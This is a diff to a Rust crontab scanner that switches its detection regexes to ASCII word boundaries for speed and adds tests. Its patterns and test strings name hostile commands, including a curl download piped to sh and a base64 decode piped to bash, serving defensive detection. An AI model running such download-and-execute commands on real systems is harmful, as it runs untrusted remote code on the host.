@@ -51,6 +51,13 @@ const MAX_HITS_PER_FILE: usize = 20;
 
 const SHELLS: &str = r"(?:ba|da|z|k|c|tc|fi)?sh|python[0-9.]*|perl|ruby|php";
 
+/// The patterns' word boundaries are ASCII (`(?-u:\b)`): the names they bound are ASCII, and a
+/// Unicode `\b` makes the regex crate leave its DFA for its much slower PikeVM on any line with
+/// a non-ASCII byte (a hostile crontab of such lines scanned several times slower).
+fn ascii_boundaries(pattern: &str) -> String {
+    pattern.replace(r"\b", r"(?-u:\b)")
+}
+
 static DOWNLOAD_EXEC: LazyLock<Option<Regex>> = LazyLock::new(|| {
     let alternatives = [
         // curl ... | sh, wget -O- ... | /bin/bash
@@ -60,11 +67,14 @@ static DOWNLOAD_EXEC: LazyLock<Option<Regex>> = LazyLock::new(|| {
         // sh -c "$(curl ...)"
         format!(r#"\b(?:{SHELLS})\s+(?:-\S+\s+)*-c\s+["']?\$\(\s*(?:curl|wget)\b"#),
     ];
-    Regex::new(&format!("(?i){}", alternatives.join("|"))).ok()
+    Regex::new(&ascii_boundaries(&format!("(?i){}", alternatives.join("|")))).ok()
 });
 
 static BASE64_EXEC: LazyLock<Option<Regex>> = LazyLock::new(|| {
-    Regex::new(&format!(r"(?i)\bbase64\s+(?:-d|--decode|-D)\b[^|;&]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:{SHELLS})\b")).ok()
+    Regex::new(&ascii_boundaries(&format!(
+        r"(?i)\bbase64\s+(?:-d|--decode|-D)\b[^|;&]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:{SHELLS})\b"
+    )))
+    .ok()
 });
 
 static INTERPRETER: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(&format!("^(?:{SHELLS})$")).ok());
@@ -301,9 +311,14 @@ mod tests {
             "cd /var/tmp && ./run",
             "sh /tmp/update.sh",
             "timeout 60 /tmp/a",
+            // Non-ASCII around the words (the boundaries are ASCII ones).
+            "echo 'mise à jour' ; curl -s http://x/é.sh | sh # déjà",
+            "echo ünïcödé | base64 -d | bash",
         ] {
             assert!(classify(bad).is_some(), "{bad}");
         }
+        assert_eq!(classify("echo 'mise à jour' ; curl -s http://x/é.sh | sh"), Some("download-exec"));
+        assert_eq!(classify("xcurl http://x | sh"), None, "a word boundary still bounds");
         for fine in [
             "find /tmp -type f -mtime +7 -delete",
             "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
